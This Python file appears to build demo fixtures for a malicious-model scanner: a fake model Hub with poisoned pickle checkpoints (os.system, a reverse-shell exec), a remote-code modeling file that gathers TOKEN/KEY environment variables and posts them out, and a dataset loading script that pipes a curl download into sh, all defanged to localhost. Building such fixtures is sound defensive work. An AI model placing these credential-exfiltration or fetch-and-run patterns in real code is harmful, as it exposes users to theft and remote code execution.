"""The demo's Hub content and workspace model files, built at demo start (nothing binary is committed).

Every payload is defanged (``echo``, sockets and URLs to 127.0.0.1) and
written as raw pickle opcodes by ``tests.builders``; nothing here loads what it builds.

Repositories (served by ``tests.fakehub``):

- ``demo-org/clean-bert``: config + safetensors weights; nothing to report.
- ``demo-org/sentiment-bert``: commit 1 is a clean torch checkpoint, commit 2 (``main``) prepends
  ``os.system`` to its ``data.pkl``; the "pin revision" quick fix pins commit 1.
- ``demo-org/gpt2-reverse-shell``: every revision's checkpoint opens a reverse shell (``exec``).
- ``demo-org/remote-code-model``: ``trust_remote_code`` modeling file that sends credentials away.
- ``datasets/demo-org/squad-extended``: a loading script that downloads and runs a shell script.
- ``datasets/demo-org/imdb-reviews``: data files only; nothing to report.
"""

from __future__ import annotations

import json
import shutil
from dataclasses import asdict, dataclass
from pathlib import Path

import numpy as np
from safetensors.numpy import save as safetensors_bytes

from tests.builders.payloads import star23_reverse_shell
from tests.builders.pickles import call
from tests.builders.torchfiles import poisoned_torch_zip, small_state_dict, torch_save_bytes
from tests.fakehub import FakeHub

# A plain command (a redirect into a sentinel file would make it a file-write attack instead).
DEMO_COMMAND = "echo malhug-demo: this could have been any command"
TEMPLATE = Path(__file__).resolve().parent / "workspace"

CLEAN = "demo-org/clean-bert"
PINNABLE = "demo-org/sentiment-bert"
REVERSE_SHELL = "demo-org/gpt2-reverse-shell"
REMOTE_CODE = "demo-org/remote-code-model"
DATASET = "demo-org/squad-extended"
CLEAN_DATASET = "demo-org/imdb-reviews"


@dataclass(frozen=True)
class Manifest:
    """What was built: the ids and the commits a test or the text demo checks against."""

    hub_root: str
    workspace: str
    clean: str
    pinnable: str
    pinnable_clean_sha: str
    pinnable_head_sha: str
    reverse_shell: str
    remote_code: str
    dataset: str
    clean_dataset: str

    def to_json(self) -> str:
        return json.dumps(asdict(self))


def _config(arch: str, **extra: object) -> str:
    return json.dumps({"architectures": [arch], "model_type": "bert", "hidden_size": 8, **extra}, indent=2)


def _weights(seed: int) -> bytes:
    rng = np.random.default_rng(seed)
    return safetensors_bytes(
        {"encoder.weight": rng.standard_normal((8, 4)).astype(np.float32), "encoder.bias": np.zeros(4, np.float32)},
        metadata={"format": "pt"},
    )


REMOTE_MODELING = '''"""Custom modeling code (demo: reads credentials and sends them away on import)."""
import os
import urllib.request

from transformers import PreTrainedModel

secrets = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}
urllib.request.urlopen("http://127.0.0.1:9/collect", data=repr(secrets).encode())


class DemoModel(PreTrainedModel):
    pass
'''

LOADING_SCRIPT = '''"""SQuAD, extended (demo: the loading script fetches and runs a shell script)."""
import json
import os

import datasets


class SquadExtended(datasets.GeneratorBasedBuilder):
    def _info(self):
        return datasets.DatasetInfo(features=datasets.Features({"question": datasets.Value("string")}))

    def _split_generators(self, dl_manager):
        os.system("curl -s http://127.0.0.1:8000/setup.sh | sh")
        return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"path": "data/train.jsonl"})]

    def _generate_examples(self, path):
        with open(path) as fh:
            for i, line in enumerate(fh):
                yield i, json.loads(line)
'''


def build_hub(root: Path) -> dict[str, str]:
    """Writes the demo repositories under ``root`` (the fake Hub layout); returns commit shas."""
    hub = FakeHub(root)
    clean = hub.repo(CLEAN)
    clean.commit({"config.json": _config("BertModel"), "model.safetensors": _weights(1)}, title="Upload model")

    pinnable = hub.repo(PINNABLE)
    state = small_state_dict(seed=2)
    good = pinnable.commit(
        {"config.json": _config("BertForSequenceClassification"), "pytorch_model.bin": torch_save_bytes(state)},
        title="Upload fine-tuned classifier",
    )
    bad = pinnable.commit(
        {
            "pytorch_model.bin": poisoned_torch_zip(
                "pytorch_model", [call("posix.system", DEMO_COMMAND)], state_dict=state
            )
        },
        title="Update weights",
    )

    shell = hub.repo(REVERSE_SHELL)
    shell.commit(
        {
            "config.json": _config("GPT2LMHeadModel", model_type="gpt2"),
            "pytorch_model.bin": poisoned_torch_zip(
                "pytorch_model", [call("builtins.exec", star23_reverse_shell())], state_dict=small_state_dict(seed=3)
            ),
        },
        title="Upload GPT-2",
    )

    remote = hub.repo(REMOTE_CODE)
    remote.commit(
        {
            "config.json": _config("DemoModel", auto_map={"AutoModel": "modeling_demo.DemoModel"}),
            "modeling_demo.py": REMOTE_MODELING,
            "model.safetensors": _weights(4),
        },
        title="Add custom model",
    )

    data = hub.repo(DATASET, "dataset")
    data.commit(
        {
            "README.md": "# SQuAD extended (demo)\n",
            "squad-extended.py": LOADING_SCRIPT,
            "data/train.jsonl": '{"question": "What is MalHug?"}\n',
        },
        title="Add loading script",
    )
    hub.repo(CLEAN_DATASET, "dataset").commit(
        {"README.md": "# IMDB reviews (demo)\n", "data/train.jsonl": '{"text": "A fine film.", "label": 1}\n'},
        title="Add data",
    )
    return {"pinnable_clean_sha": good, "pinnable_head_sha": bad}


def build_workspace(target: Path) -> None:
    """Copies the workspace template to ``target`` and writes its model files."""
    if target.exists():
        shutil.rmtree(target)
    shutil.copytree(TEMPLATE, target)
    models = target / "models"
    models.mkdir(exist_ok=True)
    (models / "checkpoint.pt").write_bytes(poisoned_torch_zip("checkpoint", [call("posix.system", DEMO_COMMAND)]))
    (models / "encoder.safetensors").write_bytes(_weights(5))


def build(workdir: Path, *, fresh_workspace: bool = False) -> Manifest:
    """Fresh hub content under ``workdir``; the workspace is copied only the first time (or when
    ``fresh_workspace``), so a user's edits survive a restart (``make demo-reset`` starts over)."""
    hub_root = workdir / "hub"
    if hub_root.exists():
        shutil.rmtree(hub_root)
    shas = build_hub(hub_root)
    workspace = workdir / "workspace"
    if fresh_workspace or not workspace.is_dir():
        build_workspace(workspace)
    return Manifest(
        hub_root=str(hub_root),
        workspace=str(workspace),
        clean=CLEAN,
        pinnable=PINNABLE,
        reverse_shell=REVERSE_SHELL,
        remote_code=REMOTE_CODE,
        dataset=DATASET,
        clean_dataset=CLEAN_DATASET,
        **shas,
    )
